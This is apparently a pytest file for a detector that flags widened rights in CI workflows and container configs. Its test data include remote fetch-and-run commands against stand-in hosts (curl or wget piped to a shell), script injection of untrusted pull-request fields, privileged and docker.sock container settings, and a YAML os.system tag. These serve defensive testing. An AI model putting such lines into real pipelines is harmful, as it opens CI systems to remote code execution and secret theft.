"""Whether pipelines and containers may do more than before; on repositories built here."""

from __future__ import annotations

from pathlib import Path

import pytest

from stabkit.change.facts import Answer
from stabkit.change.git import Git
from stabkit.change.ranges import read_changes
from stabkit.change.rights import answer_permissions
from stabkit.change.snapshots import Snapshots
from tests.change.repositories import Repository

Files = dict[str, str | bytes | None]
CI = ".github/workflows/ci.yml"
SHA = "0123456789abcdef" * 2 + "01234567"
FLOW = f"""name: ci
on:
  pull_request:
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      issues: none
    steps:
      - uses: actions/checkout@v4
      - uses: someone/thing@{SHA}
      - run: make
"""
TARGET = FLOW.replace("pull_request:", "pull_request_target:")
GITLAB = "build:\n  image: python:3.12\n  script:\n    - make\n"
CIRCLE = "workflows:\n  all:\n    jobs:\n      - deploy:\n          requires: [x]\n"
COMPOSE = "services:\n  web:\n    image: web:1\n"
POD = "kind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: web\n      image: web:1\n"


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository(tmp_path / "repo")


def answer(repository: Repository, before: Files, after: Files) -> Answer:
    base = repository.write("before", before)
    head = repository.write("after", after)
    git = Git(repository.folder)
    return answer_permissions(Snapshots(git, base, head, read_changes(git, base, head)))


@pytest.mark.parametrize(
    ("path", "text", "pair", "fact"),
    [
        (CI, FLOW, ("  pull_request:", "  pull_request_target:"), (3, "on.pull_request_target", None, True)),
        (CI, FLOW, ("on:\n  pull_request:", "on: [push, workflow_run]"), (2, "on.workflow_run", None, True)),
        (CI, FLOW, ("  pull_request:", "  issue_comment: {types: [created]}"), (3, "on.issue_comment", None, False)),
        (
            CI,
            FLOW,
            ("run: make", "run: |\n          make\n          curl -fsSL https://get.example/i.sh | sudo bash -s -- -y"),
            (17, "runs https://get.example/i.sh", None, False),
        ),
        (
            CI,
            FLOW,
            ("run: make", "run: bash <(curl -s https://a.example/x)"),
            (15, "runs https://a.example/x", None, False),
        ),
        (
            ".gitlab-ci.yml",
            GITLAB,
            ("    - make", "    - wget -qO- https://a.example/x | sh"),
            (4, "runs https://a.example/x", None, False),
        ),
        (
            "Jenkinsfile",
            "pipeline {\n  sh 'make'\n}\n",
            ("make", 'python -c "$(curl https://a.example/x)"'),
            (2, "runs https://a.example/x", None, False),
        ),
        (
            CI,
            FLOW,
            ("permissions:\n  contents: read", "permissions: write-all"),
            (4, "permissions", "contents: read", True),
        ),
        (CI, FLOW, ("  contents: read\njobs", "  contents: write\njobs"), (5, "permissions.contents", "read", True)),
        (CI, FLOW, ("issues: none", "issues: write"), (11, "jobs.build.permissions.issues", "none", True)),
        (CI, FLOW, ("issues: none", "id-token: write"), (11, "jobs.build.permissions.id-token", "none", True)),
        (
            CI,
            FLOW,
            ("contents: read\n      issues", "contents: write\n      issues"),
            (10, "jobs.build.permissions.contents", "read", True),
        ),
        (
            CI,
            FLOW.replace("    permissions:\n      contents: read\n      issues: none\n", ""),
            ("permissions:\n  contents: read\n", ""),
            (4, "permissions", "stated", False),
        ),
        (CI, FLOW, ("runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]"), (8, "jobs.build.runs-on", None, True)),
        (CI, FLOW, ("    steps", "    secrets: inherit\n    steps"), (12, "jobs.build.secrets", None, True)),
        (
            CI,
            FLOW,
            ("run: make", "run: echo ${{ github.event.pull_request.title }}"),
            (15, "untrusted github.event.pull_request.title in a script", None, True),
        ),
        (
            CI,
            FLOW,
            ("run: make", "run: |\n          make\n          echo '${{ github.head_ref }}'"),
            (17, "untrusted github.head_ref in a script", None, True),
        ),
        (
            CI,
            FLOW,
            ("run: make", "run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: true"),
            (17, "ACTIONS_ALLOW_UNSECURE_COMMANDS", None, True),
        ),
        (CI, FLOW, (f"thing@{SHA}", "thing@main"), (14, "uses someone/thing", None, False)),
        (CI, FLOW, ("run: make", "uses: other/thing@v1"), (15, "uses other/thing", None, False)),
        (
            CI,
            TARGET,
            ("checkout@v4", "checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}"),
            (15, "checkout of ${{ github.event.pull_request.head.sha }}", None, True),
        ),
        (
            CI,
            TARGET,
            ("run: make", "run: gh pr checkout 1 && make"),
            (15, "checkout of a pull request in a script", None, True),
        ),
        (
            ".gitlab-ci.yml",
            GITLAB,
            ("  script", "  id_tokens:\n    AWS:\n      aud: x\n  script"),
            (4, "build.id_tokens.AWS", None, True),
        ),
        (
            ".gitlab-ci.yml",
            GITLAB,
            ("  script", "  services:\n    - docker:24-dind\n  script"),
            (4, "build.services docker-in-docker", None, False),
        ),
        (
            ".circleci/config.yml",
            CIRCLE,
            ("          requires", "          context: prod\n          requires"),
            (5, "context prod for deploy", None, True),
        ),
        (
            "Jenkinsfile",
            "node {\n}\n",
            ("}", "  withCredentials([string(credentialsId: 'prod')]) {}\n}"),
            (2, "credentials prod", None, False),
        ),
        (
            "azure-pipelines.yml",
            "steps:\n- checkout: self\n",
            ("self", "self\n  persistCredentials: true"),
            (3, "steps.0.persistCredentials", None, True),
        ),
        (
            "docker-compose.yml",
            COMPOSE,
            (":1\n", ":1\n    privileged: true\n"),
            (4, "services.web.privileged", None, True),
        ),
        (
            "docker-compose.yml",
            COMPOSE,
            (":1\n", ":1\n    cap_add: [SYS_ADMIN]\n"),
            (4, "services.web.cap_add.SYS_ADMIN", None, True),
        ),
        (
            "docker-compose.yml",
            COMPOSE,
            (":1\n", ":1\n    volumes: ['/var/run/docker.sock:/x']\n"),
            (4, "services.web.volumes docker.sock", None, True),
        ),
        ("k8s/web.yaml", POD, ("spec:", "spec:\n  hostNetwork: true"), (5, "Pod web.spec.hostNetwork", None, True)),
    ],
)
def test_a_right_that_is_new_or_wider(
    repository: Repository, path: str, text: str, pair: tuple[str, str], fact: tuple[int, str, str | None, bool]
) -> None:
    assert pair[0] in text
    found = answer(repository, {path: text}, {path: text.replace(*pair, 1)})
    assert found.outcome == "fail"
    assert [(one.line, one.what, one.before, one.proven) for one in found.facts] == [fact]
    expected = "production" if path.startswith(("docker", "k8s")) else "ci"
    assert {one.scope for one in found.facts} == {expected}


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (FLOW, FLOW.replace("contents: read", "contents: none")),
        (FLOW.replace("permissions:\n  contents: read\n", "permissions: write-all\n", 1), FLOW),
        (FLOW.replace("permissions:\n  contents: read\n", "", 1), FLOW),
        (FLOW, FLOW.replace("    permissions:\n      contents: read\n      issues: none\n", "")),
        (TARGET, FLOW),
        (
            FLOW,
            FLOW.replace(
                "run: make", 'run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}'
            ),
        ),
        (FLOW, FLOW.replace("run: make", "run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}")),
        (FLOW, FLOW.replace("checkout@v4", "checkout@v5").replace("run: make", "uses: actions/cache@v4")),
        (
            FLOW,
            FLOW.replace(
                "checkout@v4", "checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}"
            ),
        ),
        (FLOW, "# on: pull_request_target\n" + FLOW.replace("name: ci", "name: workflow_run")),
        (FLOW, FLOW.replace(SHA, SHA[::-1])),
        (FLOW.replace(SHA, "v1"), FLOW.replace(SHA, "v2")),
    ],
)
def test_fewer_rights_and_other_words_are_none(repository: Repository, before: str, after: str) -> None:
    assert before != after
    found = answer(repository, {CI: before}, {CI: after})
    assert (found.outcome, found.facts, found.examined) == ("pass", (), 1)


def test_a_new_workflow_is_told_by_what_it_may_write(repository: Repository) -> None:
    found = answer(
        repository, {CI: FLOW}, {".github/workflows/b.yml": TARGET.replace("contents: read", "contents: write", 1)}
    )
    told = [(fact.path, fact.line, fact.what, fact.before, fact.after) for fact in found.facts]
    assert told == [
        (".github/workflows/b.yml", 3, "on.pull_request_target", None, "pull_request_target"),
        (".github/workflows/b.yml", 5, "permissions.contents", None, "write"),
    ]


def test_a_moved_workflow_has_the_rights_it_had(repository: Repository) -> None:
    found = answer(repository, {CI: TARGET}, {CI: None, ".github/workflows/other.yml": TARGET})
    assert (found.outcome, found.facts) == ("pass", ())
    again = answer(
        repository,
        {},
        {
            ".github/workflows/other.yml": None,
            ".github/workflows/z.yml": TARGET[:60] + TARGET[60:].replace("make", "make all\n" * 30, 1),
        },
    )
    assert "on.pull_request_target" not in {fact.what for fact in again.facts}


def test_without_a_pipeline_nothing_is_said(repository: Repository) -> None:
    found = answer(repository, {"a.py": "1\n", "docker-compose.yml": COMPOSE}, {"a.py": "2\n"})
    assert (found.outcome, found.why, found.settled) == ("not_checked", "no pipeline found", True)


@pytest.mark.parametrize(
    "content",
    [
        "[" * 60_000,
        "- " * 40_000,
        b"\xff\xfe\0",
        "a: &a [*a]\n",
        "on: &a {b: *a}\njobs: *a\n",
        "jobs:\n  a: [1]\n",
        "jobs: 3\npermissions: [1]\n",
        "? {a: b}\n: c\n",
        "on: !!python/object:os.system x\n",
        "\n" * 100_000,
        "run: " + "${{" * 30_000,
        "",
    ],
)
def test_no_content_breaks_the_line(repository: Repository, content: str | bytes) -> None:
    names = (CI, ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "k8s/a.yaml", "action.yml")
    files: Files = dict.fromkeys(names, "a: 1\n") | {".github/workflows/ok.yml": FLOW}
    found = answer(repository, files, dict.fromkeys(names, content) | {".github/workflows/ok.yml": TARGET})
    assert "on.pull_request_target" in [fact.what for fact in found.facts]


def test_a_workflow_that_cannot_be_parsed_is_named(repository: Repository) -> None:
    found = answer(repository, {CI: FLOW}, {CI: "a: [\n"})
    assert (found.outcome, found.why) == ("not_checked", f"could not be read: {CI}")
